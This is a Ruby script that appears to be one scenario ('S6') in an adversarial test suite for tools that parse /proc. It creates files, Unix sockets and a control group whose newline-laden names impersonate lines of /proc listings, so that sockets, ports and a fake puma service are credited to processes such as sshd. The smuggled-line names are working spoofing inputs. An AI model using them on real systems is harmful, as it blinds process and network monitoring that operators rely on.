# S6: files, sockets, processes and control groups whose names are lines of what is read of /proc.
require_relative "attack"

def inode_of_port
  File.foreach("/proc/net/tcp").map(&:split).find { |line| line[1].end_with?(":244C") && line[3] == "0A" }&.at(9) || "1"
end

def process_of(name)
  Dir.glob("/proc/[0-9]*/comm").find { |file| try { File.read(file).strip } == name }.to_s[/\d+/] || "1"
end

def held(what, times = 1)
  did(what, times)
  sleep(rand(1.0..6.0))
end

def forge_file
  folder = "#{HOME}/a\n/proc/#{process_of(%w[sshd systemd-journal dbus-daemon].sample)}"
  FileUtils.mkdir_p(folder)
  name = "#{folder}/fd:\nlrwx------ 1 root root 64 Nov 26 13:00 5 -> socket:[#{inode_of_port}]"
  File.open(name, "w") { held("file open whose name is a line of ls -l /proc/PID/fd") }
ensure
  FileUtils.rm_rf("#{HOME}/a\n")
end

def forge_sockets(path = "/run/web/puma.sock")
  inode = [inode_of_port, "99999901", "1"].sample
  root = "/tmp/#{Process.pid}"
  sockets = (1..30).map do |i|
    folder = "#{root}.#{i}\n1: 2 0 00010000 1 1 #{inode} #{File.dirname(path)}"
    FileUtils.mkdir_p(folder)
    UNIXServer.new("#{folder}/#{File.basename(path)}")
  end
  sockets << UNIXServer.new("\0\n1: 2 0 00010000 1 1 #{inode} #{path}")
  held("socket bound whose name is a line of /proc/net/unix", sockets.size)
ensure
  sockets&.each(&:close)
  FileUtils.rm_rf(Dir.glob("#{root}.*"))
end

def forge_group
  own = "/sys/fs/cgroup#{File.read("/proc/self/cgroup")[/^0::(.*)$/, 1]}"
  group = "#{own}/#{%w[web.service cdktf-puma-web.service].sample}"
  Dir.mkdir(group)
  child = fork { $0 = "puma 6.6.0 (tcp://0.0.0.0:9292) [web]\n1: forged"; sleep(rand(1.0..4.0)); exit! }
  File.write("#{group}/cgroup.procs", child.to_s)
  did("process in a control group with the name of a service")
  Process.wait(child)
ensure
  try { Dir.rmdir(group) }
end

attack(0.1..2.0, -> { forge_file }, -> { forge_sockets }, -> { forge_group })
